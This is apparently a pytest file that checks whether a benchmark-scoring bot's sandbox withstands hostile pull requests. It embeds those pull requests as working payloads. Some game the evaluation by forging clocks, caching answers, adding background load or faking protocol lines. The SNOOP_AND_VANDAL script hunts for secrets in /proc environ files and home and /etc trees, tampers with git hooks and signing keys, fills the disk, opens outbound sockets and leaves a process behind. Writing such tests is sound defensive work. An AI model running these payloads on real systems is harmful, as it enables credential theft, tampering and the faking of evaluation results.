"""Hostile PRs against the real pipeline with the real engine (issues 11 and 12).

Every PR here is a real edit to engine/ or kernels/ of this repository, made the way a contributor
would make it. Each one is scored by `pipeline.score_refs` exactly as `evalbot score` scores it: the merge
into main's tip, main's harness server, sandboxed servers (two per ref, alive side by side), windows
of the real corpora that a process is never sent twice, the bot's own clock, and main's engine
re-verifying every PR DSpark stream. The model is a tiny random-weight Llama that uses the bundled
tokenizer (evalbot/testing/tiny_real.py), so one scoring takes seconds per round. The bundled
model's own real scoring is tests/test_demo.py's lossy example.

Assertions are about what a gamed bot would get wrong: no tier above none for a PR that is not
faster, REJECT for a PR whose output is wrong, and a real speedup that still tiers.
"""

from __future__ import annotations

import hashlib
import os
import socket
import subprocess
import threading
from pathlib import Path

import pytest

from evalbot import pipeline
from evalbot.settings import Settings
from evalbot.testing.sandbox_check import sandbox_unavailable

from evalbot.testing.tiny_real import TINY_REAL_PROFILE, edit_branch, make_tiny_real_repo

REPO = Path(__file__).resolve().parents[1]
ROUNDS = 4  # one round per pairing of the two processes per ref


UNAVAILABLE = sandbox_unavailable()
# these PRs are hostile: they run sandboxed or not at all
pytestmark = [pytest.mark.slow, pytest.mark.skipif(UNAVAILABLE is not None, reason=f"no sandbox here: {UNAVAILABLE}")]


@pytest.fixture(scope="module")
def real(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    model = root / "bot" / "tiny.gguf"
    model.parent.mkdir()
    repo = make_tiny_real_repo(REPO, root / "repo", model)
    return repo, model


def settings(model: Path, **kw) -> Settings:
    # The noise floor: uncalibrated, 15 %. A/A scorings of this tiny model on a two-core VM stray up to
    # about ±14 % (the box's speed drifts by that much within one process, and processes differ).
    # Whatever these PRs try is meant to win 20 % and more; the planted delay below is worth over 50 %.
    return Settings.model_validate({
        "box": "test-box", "stats": {"default_noise_floor": 0.15},
        "thresholds": {"min_compare_positions": 64}, "profiles": {"cpu": TINY_REAL_PROFILE},
        "harness": {"model": str(model)}, **kw})


def score(real, head, base="main", **kw):
    repo, model = real
    kw.setdefault("settings", settings(model))
    kw.setdefault("rounds", ROUNDS)
    kw.setdefault("calibrate_first", False)
    return pipeline.score_refs(repo, base, head, profile="cpu", **kw)


def gate(outcome, name):
    return next(g for g in outcome.verdict.gates if g.gate == name)


def assert_fully_measured_none(out):
    """Scored, every pairing measured, no tier: a `none` that a budget cut could not have produced."""
    assert out.verdict.status == "scored" and out.verdict.tier == "none", (out.verdict.tier, out.verdict.reason)
    m = out.measurements
    assert m.rounds == ROUNDS and len(set(m.speedup_groups)) == 4, m.stop


# -- the edits --------------------------------------------------------------------------------------

GENERATE = "engine/generate.py"
SPECULATE = "engine/dspark/speculate.py"
MODEL = "engine/model.py"
COMMIT = "kernels/greedy_commit.py"
INIT = "engine/__init__.py"

# Every clock the process can read runs at half speed from import on: its own timings say "twice as fast".
FORGED_CLOCKS = '''
import time as _t
_T0 = {n: getattr(_t, n)() for n in ("perf_counter", "perf_counter_ns", "monotonic", "monotonic_ns", "time", "time_ns")}
def _slow(name, real=None):
    real = getattr(_t, name)
    base = _T0[name]
    ns = name.endswith("_ns")
    return (lambda: base + (real() - base) // 2) if ns else (lambda: base + (real() - base) * 0.5)
for _n in _T0:
    setattr(_t, _n, _slow(_n))
'''

# A "suffix cache": the greedy continuation of a prompt, remembered by its last 16 tokens. Lossless and
# plausible; on a harness that repeats prompts it answers from memory.
MEMO_OLD = "        sampling = sampling or SamplingParams()\n        self.check_request(prompt_ids, max_new_tokens)\n"
MEMO_NEW = MEMO_OLD + '''        key = (tuple(prompt_ids[-16:]), max_new_tokens, sampling.greedy)
        memo = self.__dict__.setdefault("_memo", {})
        if sampling.greedy and key in memo:
            hit = memo[key]
            return GenerationResult(list(hit.tokens), len(prompt_ids), 1e-4, 1e-4, hit.stop_reason, hit.mode, hit.stats)
        result = self._generate_uncached(prompt_ids, max_new_tokens, sampling, dspark, stop_at_eos)
        if sampling.greedy:
            memo[key] = result
        return result

    def _generate_uncached(self, prompt_ids, max_new_tokens, sampling, dspark, stop_at_eos):
'''

# A thread of the PR's own process that keeps computing matmuls, and a process it starts in a
# session of its own (out of the server's process group) that spins: if either ran while main's
# request is timed, main would look slower and the PR faster.
BACKGROUND_LOAD = '''
import subprocess as _sp, sys as _sys, threading as _th
def _burn():
    import torch
    a = torch.randn(128, 128)
    while True:
        a = torch.tanh(a @ a)
_th.Thread(target=_burn, daemon=True).start()
_sp.Popen([_sys.executable, "-c", "while True: pass"], start_new_session=True,
          stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
'''

# A line shaped like the contract's, written past the server's redirect of sys.stdout: to
# sys.__stdout__ and to fd 1 (which the server points at stderr). Once, such a line turned a lossy PR's
# REJECT into "infrastructure error". (Writing to the protocol pipe itself is forged output, REJECTed as
# such: tests/test_evalbot_pipeline.py, knob forge_fds.)
LOUD = '''
import json as _j, os as _o, sys as _s
_line = _j.dumps({"schema": "dspark-harness/2", "kind": "error", "id": 1, "reason": "CUDA out of memory"}) + "\\n"
for _w in (lambda: _s.__stdout__.write(_line) and _s.__stdout__.flush(), lambda: _o.write(1, _line.encode())):
    try:
        _w()
    except Exception:
        pass
'''

# The drafter is right most of the time: commit its whole block without comparing (examples/prs/02).
LOSSY_OLD = "    j = 0\n    while j < m - 1 and int(tokens[j + 1]) == int(t[j]):\n        j += 1\n"
LOSSY_NEW = "    j = m - 1  # every draft accepted\n"

# Sharper logits: the same argmax everywhere (lossless), another distribution.
SHARPER_OLD = '        self.lm_head = self.embed if config.tie_embeddings or "lm_head" not in weights else cv(weights["lm_head"])\n'
SHARPER_NEW = SHARPER_OLD + "        self.lm_head = self.lm_head * 1.3\n"

# A per-iteration delay planted in main's DSpark loop; the PR that removes it is genuinely faster.
DELAY_CHUNK_OLD = "            g.fused_chunk(k)()\n"
DELAY_CHUNK_NEW = DELAY_CHUNK_OLD + "            time.sleep(0.008 * k)  # planted\n"
DELAY_PLAIN_OLD = "                plain += n\n"
DELAY_PLAIN_NEW = DELAY_PLAIN_OLD + "                time.sleep(0.008 * n)  # planted\n"


# -- issue 11: figures the PR cannot fake ------------------------------------------------------------

def test_forged_clocks_buy_nothing_and_are_flagged(real):
    edit_branch(real[0], "forged-clocks", files={INIT: FORGED_CLOCKS})
    out = score(real, "forged-clocks")
    assert_fully_measured_none(out)
    assert out.measurements.clock.flagged and "faster than it was" in out.scorecard


def test_a_suffix_cache_never_hits_on_windows_never_sent_twice(real):
    edit_branch(real[0], "suffix-cache", [(GENERATE, MEMO_OLD, MEMO_NEW)])
    out = score(real, "suffix-cache")
    assert_fully_measured_none(out)
    assert gate(out, "integrity").status == "pass"


def test_background_load_from_the_pr_cannot_slow_main(real):
    edit_branch(real[0], "background-load", files={INIT: BACKGROUND_LOAD})
    out = score(real, "background-load")
    # frozen while main is timed, the PR's own load only slows the PR: never a tier, maybe a REJECT
    assert out.verdict.tier in ("none", "REJECT"), (out.verdict.tier, out.verdict.reason)
    assert out.verdict.status != "error", out.verdict.reason
    assert out.measurements.rounds == ROUNDS


def test_a_lossy_pr_that_prints_contract_lines_is_still_rejected(real):
    edit_branch(real[0], "lossy-loud", [(COMMIT, LOSSY_OLD, LOSSY_NEW)], files={INIT: LOUD})
    out = score(real, "lossy-loud")
    assert out.verdict.tier == "REJECT" and out.verdict.status == "rejected", out.verdict.reason
    assert "not main's greedy continuation" in gate(out, "lossless").detail, out.verdict.reason
    # what the PR prints never reaches the bot as an answer; the one finding allowed is the speed bound, which
    # "every draft accepted" can really trip on a window where main's tiny drafter is rarely accepted (5.4x once)
    integ = gate(out, "integrity")
    assert integ.status == "pass" or all("x main is taken as an answer it did not compute" in f
                                         for f in integ.detail.split("; ")), integ.detail


def test_sharper_logits_fail_the_full_vocabulary_kl(real):
    edit_branch(real[0], "sharper-logits", [(MODEL, SHARPER_OLD, SHARPER_NEW)])
    out = score(real, "sharper-logits")
    assert out.verdict.tier == "REJECT", out.verdict.reason
    acc = gate(out, "accuracy")
    assert acc.status == "fail" and "KL" in acc.detail and "full vocabulary" in acc.detail, acc.detail
    assert gate(out, "lossless").status == "pass"  # same argmax: lossless, and still REJECTed


def test_removing_a_planted_delay_is_a_real_speedup_that_tiers(real):
    repo = real[0]
    planted = [(SPECULATE, DELAY_CHUNK_OLD, DELAY_CHUNK_NEW), (SPECULATE, DELAY_PLAIN_OLD, DELAY_PLAIN_NEW)]
    edit_branch(repo, "slow-main", planted)
    # the PR, based on slow-main, removes the delay: its merge into slow-main's tip is main's loop again
    edit_branch(repo, "no-delay", [(path, new, old) for path, old, new in planted], start="slow-main")
    # adaptive, as the bot scores: at least every pairing, then on (up to 8 rounds) while a gate is undecided.
    # In the full suite this test's guard read below its bar about one run in two (2026-12-05), never alone: the
    # bot's clock ran in the suite's own process, whose full garbage collections (~520,000 objects) took 300-480
    # ms each, charged to whichever short guard request they fell in. The clock now runs with the collector off
    # (measure.client). The guard's longer requests (a 384-token prefill, 24 new tokens) stay; a failure prints
    # the guard's ratios.
    guard = {**TINY_REAL_PROFILE["guards"][0], "ctx": 384, "new_tokens": 24}
    adaptive = settings(real[1], profiles={"cpu": {**TINY_REAL_PROFILE, "max_rounds": 8, "guards": [guard]}})
    out = score(real, "no-delay", base="slow-main", rounds=None, settings=adaptive)
    assert out.verdict.status == "scored", out.verdict.reason
    assert ROUNDS <= out.measurements.rounds <= 8, out.measurements.stop
    guards = [(g.generation_ratios, g.prefill_ratios) for g in out.measurements.guards]
    assert out.verdict.tier not in ("none", "REJECT"), (out.verdict.tier, out.verdict.reason, guards)
    assert out.verdict.speedup.ci_low_pct > 15, (out.verdict.speedup, out.scorecard)
    assert all(g.status == "pass" for g in out.verdict.gates)


# -- issue 12: nothing of the bot is reachable ----------------------------------------------------------

SNOOP_AND_VANDAL = '''
import glob, os, socket, subprocess, sys
NEEDLES = [n.encode() for n in {needles!r}]
TARGETS = {targets!r}

def _found(where):
    print("hostile: found a secret in " + where, file=sys.stderr, flush=True)
    os._exit(3)

# 1. read secrets: its environment, every process's environ and cmdline, key-shaped files, the checkout
places = [("os.environ", "\\n".join(k + "=" + v for k, v in os.environ.items()).encode())]
paths = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
for pattern in ("/root/**", os.path.expanduser("~") + "/**", "/tmp/**", "/home/**", "/etc/**", "/var/**", "/srv/**"):
    paths += glob.glob(pattern, recursive=True)[:3000]
paths += [t for t in TARGETS]
for path in paths:
    try:
        with open(path, "rb") as f:
            places.append((path, f.read(1 << 20)))
    except OSError:
        pass
for where, data in places:
    if any(n in data for n in NEEDLES):
        _found(where)
del places

# 2. write outside its tree: the bot's checkout, hooks, config, ledger, caches, its own tree
for path in TARGETS + [os.path.join(os.getcwd(), "engine", "planted.py"), os.path.expanduser("~/.cache/triton/planted")]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write("planted by a PR\\n")
        print("hostile: wrote " + path, file=sys.stderr, flush=True)
    except OSError:
        pass

# 3. fill the disk (its private /tmp is capped; the host's disk is not in view)
try:
    with open("/tmp/dspark-fill", "wb") as f:
        block = b"x" * (1 << 20)
        for _ in range(4096):
            f.write(block)
except OSError:
    pass
try:
    os.remove("/tmp/dspark-fill")
except OSError:
    pass

# 4. the network: the test's listener on the host's loopback, and anything else
for addr in [("127.0.0.1", {port}), ("10.0.0.1", 80), ("1.1.1.1", 53)]:
    try:
        s = socket.create_connection(addr, timeout=1)
        s.sendall(b"hello from the PR")
        s.close()
    except OSError:
        pass

# 5. leave a process behind
subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", "{marker}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''


def _digests(paths: list[Path]) -> dict[str, str | None]:
    out = {}
    for p in paths:
        out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else None
    return out


def _tree_state(repo: Path) -> str:
    """The bot's checkout file by file (its working tree, .git's config and hooks), without what the
    bot itself writes while scoring (git objects and refs, .evalbot's receipts and history)."""
    h = hashlib.sha256()
    paths = [p for p in repo.rglob("*") if ".git" not in p.relative_to(repo).parts[:1] and
             ".evalbot" not in p.relative_to(repo).parts[:1]]
    paths += list((repo / ".git" / "hooks").glob("*")) + [repo / ".git" / "config"]
    for p in sorted(paths):
        if p.is_file():
            h.update(str(p.relative_to(repo)).encode() + hashlib.sha256(p.read_bytes()).digest())
    return h.hexdigest()


def test_a_hostile_pr_finds_nothing_changes_nothing_and_leaves_nothing(real, tmp_path, monkeypatch):
    repo, model = real
    secret = "s3cr3t-" + os.urandom(6).hex()
    monkeypatch.setenv("GITHUB_TOKEN", secret + "-token")
    monkeypatch.setenv("EVALBOT_WEBHOOK_SECRET", secret + "-webhook")
    home_key = Path.home() / f".dspark-test-key-{secret[-6:]}.pem"
    home_key.write_text(f"-----BEGIN PRIVATE KEY-----\n{secret}-home\n-----END PRIVATE KEY-----\n")
    state = repo / ".evalbot"
    state.mkdir(exist_ok=True)
    (state / "signing-key.pem").write_text(f"{secret}-signing\n")
    (state / "config.toml").write_text("[thresholds]\nar_ratio_min = 0.97\n")
    (repo / ".git" / "config").write_text((repo / ".git" / "config").read_text() + f"# {secret}-gitconfig\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    connections: list = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                pass

    threading.Thread(target=accept, daemon=True).start()
    marker = "dspark-left-behind-" + secret[-8:]
    targets = [repo / ".evalbot" / "config.toml", repo / ".evalbot" / "signing-key.pem", repo / ".git" / "config",
               repo / ".git" / "hooks" / "post-checkout", repo / ".evalbot" / "ledger.jsonl", repo / "engine" / "generate.py",
               home_key, model, Path.home() / ".cache" / "triton" / "planted"]
    code = SNOOP_AND_VANDAL.format(needles=[secret], targets=[str(t) for t in targets], port=listener.getsockname()[1],
                                   marker=marker)
    edit_branch(repo, "hostile", files={INIT: code})
    before, tree_before = _digests(targets), _tree_state(repo)
    try:
        out = score(real, "hostile")
        after = _digests(targets)
    finally:
        stop.set()
        listener.close()
        home_key.unlink()
    # it found no secret (it would have exited, naming the place: the PR's process failing, REJECT) and
    # was measured to the end: no tier, a scorecard. (Its import does a lot; a speed gate may REJECT it.)
    assert out.scorecard and out.measurements.rounds == ROUNDS, out.verdict.reason
    assert out.verdict.tier in ("none", "REJECT"), out.verdict.tier
    assert {g.gate for g in out.verdict.gates if g.status == "fail"} <= {"ar"} | {g.gate for g in out.verdict.gates
                                                                            if g.gate.startswith("guard")}, out.verdict.reason
    assert gate(out, "integrity").status == "pass" and gate(out, "lossless").status == "pass"
    # it changed nothing of the bot's (the receipt and logs the bot itself wrote aside)
    assert after == before
    assert _tree_state(repo) == tree_before
    # it reached nothing over the network
    assert connections == []
    # and nothing it started outlived the run
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert marker not in ps
    assert not Path("/tmp/dspark-fill").exists()
